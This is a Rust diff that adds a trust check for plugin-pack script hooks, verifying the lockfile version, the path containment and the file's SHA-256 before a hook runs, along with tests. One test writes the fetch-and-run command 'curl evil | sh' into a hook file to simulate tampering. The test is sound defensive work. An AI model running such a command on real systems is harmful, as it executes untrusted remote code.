@@ -96,6 +96,42 @@ pub fn is_hook_trusted(
     TrustStore::load(root).is_ok_and(|s| s.trusts(pack_id, version, hook_path, digest))
 }
 
+/// Whether the hook `command` (as written in `hooks.json` or a persona's `hooks:`, e.g.
+/// `./hooks/setup.sh --fast`) of the pack installed at `pack_dir` (`<root>/<pack-id>`) is trusted
+/// right now: the installed version per `pack.lock`, and the file's current SHA-256, must be what
+/// the operator trusted. The runtime calls this before running a script hook; `false` on any doubt
+/// (not an installed pack, a path leaving the pack, an unreadable file or store).
+pub fn hook_command_trusted(pack_dir: &Path, command: &str) -> bool {
+    let Ok(pack_dir) = pack_dir.canonicalize() else {
+        return false;
+    };
+    let (Some(root), Some(pack_id)) = (
+        pack_dir.parent(),
+        pack_dir.file_name().and_then(|n| n.to_str()),
+    ) else {
+        return false;
+    };
+    let Ok(lock) = Lock::load(root) else {
+        return false;
+    };
+    let Some(entry) = lock.packs.get(pack_id) else {
+        return false;
+    };
+    let token = command.split_whitespace().next().unwrap_or(command);
+    let Ok(abs) = crate::pack::paths::resolve_inside(&pack_dir, token) else {
+        return false;
+    };
+    let rel = crate::pack::paths::relative_to(&pack_dir, &abs)
+        .components()
+        .map(|c| c.as_os_str().to_string_lossy().into_owned())
+        .collect::<Vec<_>>()
+        .join("/");
+    let Ok(digest) = super::sha256_file(&abs) else {
+        return false;
+    };
+    is_hook_trusted(root, pack_id, &entry.version, &rel, &digest)
+}
+
 /// One hook of an installed pack with its trust state.
 #[derive(Debug, Clone, Serialize)]
 pub struct HookStatus {
@@ -202,13 +238,8 @@ pub fn forget(guard: &RootGuard, pack_id: &str) -> Result<bool> {
 mod tests {
     use super::*;
 
-    #[test]
-    fn trust_is_for_one_version_and_digest() {
-        let dir = tempfile::tempdir().unwrap();
-        let root = dir.path();
-        assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", "aa"));
-        let guard = RootGuard::acquire(root, true).unwrap().unwrap();
-        let hook = HookStatus {
+    fn hook_template() -> HookStatus {
+        HookStatus {
             path: "hooks/a.sh".into(),
             kind: HookKind::Script,
             sha256: "ab".repeat(32),
@@ -216,7 +247,16 @@ mod tests {
             commands: vec!["./hooks/a.sh".into()],
             intact: true,
             trusted: false,
-        };
+        }
+    }
+
+    #[test]
+    fn trust_is_for_one_version_and_digest() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", "aa"));
+        let guard = RootGuard::acquire(root, true).unwrap().unwrap();
+        let hook = hook_template();
         trust(&guard, "p", "1.0.0", std::slice::from_ref(&hook)).unwrap();
         let d = "ab".repeat(32);
         assert!(is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", &d));
@@ -242,6 +282,37 @@ mod tests {
             ..hook
         };
         assert!(trust(&guard, "p", "1.0.0", &[drifted]).is_err());
+        // The runtime's view: the installed pack per pack.lock and the file's current digest.
+        let pack = root.join("p");
+        std::fs::create_dir_all(pack.join("hooks")).unwrap();
+        std::fs::write(pack.join("hooks/a.sh"), "echo hi\n").unwrap();
+        let real = super::super::sha256_file(&pack.join("hooks/a.sh")).unwrap();
+        let hook = HookStatus {
+            sha256: real,
+            ..hook_template()
+        };
+        trust(&guard, "p", "1.0.0", &[hook]).unwrap();
+        assert!(
+            !hook_command_trusted(&pack, "./hooks/a.sh"),
+            "not in pack.lock"
+        );
+        let mut lock = Lock::default();
+        lock.packs.insert(
+            "p".into(),
+            super::super::lock::LockEntry {
+                source: "x".into(),
+                sha256: None,
+                resolved: None,
+                version: "1.0.0".into(),
+                installed_at: "2026-01-01T00:00:00Z".into(),
+                extra: Default::default(),
+            },
+        );
+        lock.save(root, &guard.state).unwrap();
+        assert!(hook_command_trusted(&pack, "./hooks/a.sh --flag"));
+        assert!(!hook_command_trusted(&pack, "../p/hooks/a.sh"));
+        std::fs::write(pack.join("hooks/a.sh"), "curl evil | sh\n").unwrap();
+        assert!(!hook_command_trusted(&pack, "./hooks/a.sh"), "changed file");
         assert!(forget(&guard, "p").unwrap());
         assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", &d));
     }
